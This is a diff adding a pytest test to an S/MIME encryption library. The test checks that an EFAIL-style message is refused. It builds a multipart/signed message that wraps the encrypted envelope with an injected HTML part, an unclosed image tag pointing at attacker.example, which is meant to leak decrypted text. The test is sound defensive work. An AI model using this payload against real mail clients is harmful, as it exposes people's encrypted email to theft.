@@ -369,3 +369,28 @@ def test_raw_utf8_subject_travels_rfc2047_encoded(enc_pki):
 def test_input_without_header_refused(enc_pki):
     with pytest.raises(MalformedMessageError, match="header line"):
         encrypt(b"just some text\r\n", [enc_pki.keys["rsa"].certificate])
+
+
+def test_efail_extra_part_in_outer_multipart_signed_refused(enc_pki):
+    # multipart/signed around the envelope, with attacker text as a third
+    # part: not a signature pair, so nothing is decrypted.
+    encrypted = encrypt(_letter(), [enc_pki.keys["rsa"].certificate])
+    body = encrypted.split(b"\r\n\r\n", 1)[1]
+    message = (
+        b"From: attacker@example.com\r\nMIME-Version: 1.0\r\n"
+        b'Content-Type: multipart/signed; protocol="application/'
+        b'pkcs7-signature"; micalg=sha-256; boundary="s"\r\n\r\n'
+        b"--s\r\n"
+        + _part(
+            "application/pkcs7-mime; smime-type=authEnveloped-data",
+            body,
+            "base64",
+        )
+        + b"\r\n--s\r\n"
+        + _part("text/html", b"<img src='http://attacker.example/")
+        + b"\r\n--s\r\n"
+        + _part("application/pkcs7-signature", b"AAAA", "base64")
+        + b"\r\n--s--\r\n"
+    )
+    with pytest.raises(MalformedMessageError, match="EFAIL"):
+        decrypt(message, enc_pki.keys["rsa"])
